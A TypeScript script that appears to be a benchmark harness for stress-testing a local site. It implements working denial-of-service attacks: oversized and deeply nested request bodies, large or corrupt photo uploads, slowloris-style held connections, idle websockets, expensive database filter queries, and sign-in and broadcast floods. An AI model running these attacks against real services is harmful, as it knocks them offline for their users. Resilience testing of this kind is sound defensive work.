import { connect, type Socket } from "node:net";
import { setTimeout as delay } from "node:timers/promises";
import sharp from "sharp";
import { WebSocket } from "ws";
import { json, openSite, type Site } from "./fairness-site.ts";

/** Source address of all attacks. */
const attacker = "127.0.0.1";
const megabyte = 1024 * 1024;

/** Runs until the process is killed. */
type Attack = (site: Site) => Promise<void>;

async function attacks(): Promise<Readonly<Record<string, Attack>>> {
  const noise = { type: "gaussian", mean: 128, sigma: 40 } as const;
  const plain = { width: 5000, height: 4000, channels: 3, background: "gray", noise } as const;
  const photo = await sharp({ create: plain }).jpeg({ quality: 40 }).toBuffer();
  const upload = (image: Buffer) =>
    JSON.stringify({
      name: "A",
      phone: "7705550199",
      service: "Other",
      date: new Date(Date.now() + 21 * 24 * 3_600_000).toISOString().slice(0, 10),
      time: "9:00",
      imageAttachments: [
        {
          name: "a.jpg",
          type: "image/jpeg",
          dataUrl: `data:image/jpeg;base64,${image.toString("base64")}`,
        },
      ],
    });
  const post = (path: string, body: string, headers: Record<string, string> = json, lanes = 8) =>
    repeatedly(lanes, ({ ask }) => ask(attacker, path, { method: "POST", headers, body }));
  const form = "/api/forms/appointment_request";
  const filter = `or=(${"id.is.null,".repeat(60)}id.is.null)`;
  return {
    "wide bodies": post(form, `{"x":[${"0,".repeat(10 * megabyte - 8)}0]}`),
    "nested bodies": post(form, "[".repeat(20 * megabyte)),
    "long strings": post(form, `{"notes":"${"a".repeat(20 * megabyte)}"}`, json, 4),
    "long photos": post(form, upload(Buffer.alloc(14 * megabyte)), json, 4),
    "paths of slashes": repeatedly(16, ({ ask }) => ask(attacker, `/${"/".repeat(15_000)}a`)),
    "slow connections": holding((site) => {
      const { hostname, port } = new URL(site.url);
      const socket = connect({ host: hostname, port: Number(port), localAddress: attacker });
      socket.write(`POST ${form} HTTP/1.1\r\nHost: shop\r\nContent-Length: 9000\r\n\r\n{`);
      return socket;
    }),
    "silent live sockets": holding(({ url, key }) => {
      const address = `${url.replace("http", "ws")}/realtime/v1/websocket?vsn=2.0.0&apikey=${key}`;
      return new WebSocket(address, { localAddress: attacker });
    }),
    "costly queries": repeatedly(16, ({ ask, key }) =>
      ask(attacker, `/rest/v1/yars_profiles?select=*&${filter}`, { headers: { apikey: key } }),
    ),
    photos: post(form, upload(photo)),
    "damaged photos": post(form, upload(photo.subarray(0, photo.length / 2))),
    "sign-ins": repeatedly(16, ({ ask, key }) =>
      ask(attacker, "/auth/v1/token?grant_type=password", {
        method: "POST",
        headers: { ...json, apikey: key },
        body: JSON.stringify({ email: "b@example.com", password: "x" }),
      }),
    ),
    broadcasts: repeatedly(16, ({ ask, key }) =>
      ask(attacker, "/realtime/v1/api/broadcast", {
        method: "POST",
        headers: { ...json, apikey: key },
        body: JSON.stringify({
          messages: Array(50).fill({ topic: "x", event: "x", payload: "x".repeat(4000) }),
        }),
      }),
    ),
  };
}

/** Sends requests in this many concurrent loops, each as soon as the previous response arrives. */
function repeatedly(lanes: number, send: (site: Site) => Promise<number>): Attack {
  return async (site) => {
    const lane = async () => {
      for (;;) if ((await send(site)) === 0) await delay(5);
    };
    await Promise.all(Array.from({ length: lanes }, lane));
  };
}

/** Opens connections continuously, holding up to 400 that the server leaves open. */
function holding(open: (site: Site) => Socket | WebSocket): Attack {
  return async (site) => {
    const held = new Set<Socket | WebSocket>();
    for (;;) {
      if (held.size < 400) {
        const one = open(site);
        held.add(one);
        one.on("error", () => undefined);
        one.on("close", () => held.delete(one));
      }
      await delay(2);
    }
  };
}

/** Arguments from the benchmark: the site's URL and the attack. Prints a line when it starts. */
const [url = "", name = ""] = process.argv.slice(2);
const [site, known] = await Promise.all([openSite(url), attacks()]);
process.stdout.write("attacking\n");
await known[name]?.(site);
